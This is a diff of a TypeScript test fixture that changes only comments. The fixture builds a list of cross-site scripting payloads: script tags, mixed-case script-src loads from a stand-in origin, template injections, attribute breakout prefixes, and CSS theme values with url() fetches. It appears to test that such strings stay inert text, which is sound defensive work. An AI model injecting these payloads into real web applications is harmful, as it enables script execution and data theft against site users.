@@ -1,10 +1,10 @@
-/** Where scripts of the corpus would report to. */
+/** The origin that scripts of the corpus report to. */
 export const ELSEWHERE = 'https://elsewhere.test';
 
 const act = 'window.broken=1';
 const load = `${ELSEWHERE}/x`;
 
-/** What browsers have been talked into running, or fetching, by a text that was taken for markup, an address or a style. */
+/** Payloads known to make browsers run or fetch something when text is taken for markup, an address or a style. */
 const bodies: readonly string[] = [
   `<script>${act}</script>`,
   `<ScRiPt src=${load}.js></sCrIpT>`,
@@ -54,7 +54,7 @@ const bodies: readonly string[] = [
   `\${${act}}`,
 ];
 
-/** How a text gets out of the place it was put into. */
+/** Ways in which a text breaks out of its place. */
 const ways: readonly ((body: string) => string)[] = [
   (body) => body,
   (body) => `">${body}`,
@@ -66,7 +66,7 @@ const ways: readonly ((body: string) => string)[] = [
 /** More than two hundred texts that must stay texts (V5). */
 export const hostileTexts: readonly string[] = ways.flatMap((way) => bodies.map(way));
 
-/** Values of theme variables that would leave their place. */
+/** Values of theme variables that try to break out of their declaration. */
 export const hostileValues: readonly string[] = [
   `url(${load})`,
   `red;background:url(${load})`,
